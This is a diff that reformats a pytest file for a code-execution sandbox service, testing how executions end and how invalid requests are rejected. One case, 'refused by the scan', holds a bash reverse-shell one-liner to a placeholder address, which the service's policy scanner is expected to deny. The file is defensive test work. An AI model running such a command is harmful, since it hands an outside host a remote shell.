@@ -1,4 +1,5 @@
-"""What was said of an execution is the same for who listened while it ran and for who asks after the service was started anew, when only the store knows."""
+"""What was said of an execution is the same for who listened while it ran and for who asks after the service was
+started anew, when only the store knows."""
 import contextlib
 
 import helpers
@@ -6,17 +7,21 @@ import load
 import pytest
 from service import Service, error_of
 
-MANY_BYTES = "import sys; sys.stdout.buffer.write(bytes(range(256)) * 8); sys.stdout.flush(); print('ä€', file=sys.stderr); sys.exit(3)"
+MANY_BYTES = ("import sys; sys.stdout.buffer.write(bytes(range(256)) * 8); sys.stdout.flush(); print('ä€', "
+              "file=sys.stderr); sys.exit(3)")
 INTERLEAVED = "for i in 1 2 3; do echo out$i; sleep 0.05; echo err$i >&2; sleep 0.05; done"
 # what is asked for -> the type of the last event, the reason, and the code of an error
 ENDS = {
     "completed": ({"language": "bash", "code": INTERLEAVED}, "result", "completed", None),
     "error, with bytes that are no text": ({"language": "python", "code": MANY_BYTES}, "result", "error", None),
     "without a word": ({"language": "bash", "code": ":"}, "result", "completed", None),
-    "timeout": ({"language": "bash", "code": "echo before; sleep 8541.5", "limits": {"timeout": 1}}, "result", "timeout", None),
+    "timeout": ({"language": "bash", "code": "echo before; sleep 8541.5", "limits": {"timeout": 1}}, "result",
+                "timeout", None),
     "killed": ({"language": "bash", "code": "echo before; sleep 8542.5"}, "result", "killed", None),
-    "its launcher died": ({"language": "bash", "code": "echo before; sleep 8544.5"}, "error", "sandbox_error", "sandbox_error"),
-    "refused by the scan": ({"language": "bash", "code": "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"}, "error", "policy_denied", "policy_denied"),
+    "its launcher died": ({"language": "bash", "code": "echo before; sleep 8544.5"}, "error", "sandbox_error",
+                          "sandbox_error"),
+    "refused by the scan": ({"language": "bash", "code": "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"}, "error",
+                            "policy_denied", "policy_denied"),
 }
 
 
@@ -98,6 +103,9 @@ def test_what_could_not_be_meant_is_no_execution_and_names_none(told, more):
     answer = s.request("POST", "/execute", json={"language": "bash", "code": ":", "env": {"A B": "no name"}, **more})
     error = error_of(answer, 422, "invalid_value")
     assert "execution_id" not in error["details"] and "X-Execution-Id" not in answer.headers, (error, answer.headers)
-    once = s.request("POST", "/execute", json={"language": "bash", "code": ":", "env": {"A B": "no name"}, **more}, headers={"Idempotency-Key": "k%d" % len(more)})
-    kept = error_of(once, 422, "invalid_value")["details"]["execution_id"]  # this one has a row, by which it may be asked for
-    assert s.execution(kept)["reason"] == "sandbox_error" and load.events_in(raw(s, kept))[-1]["error"]["code"] == "invalid_value"
+    once = s.request("POST", "/execute", json={"language": "bash", "code": ":", "env": {"A B": "no name"}, **more},
+                     headers={"Idempotency-Key": "k%d" % len(more)})
+    # this one has a row, by which it may be asked for
+    kept = error_of(once, 422, "invalid_value")["details"]["execution_id"]
+    assert (s.execution(kept)["reason"] == "sandbox_error"
+            and load.events_in(raw(s, kept))[-1]["error"]["code"] == "invalid_value")
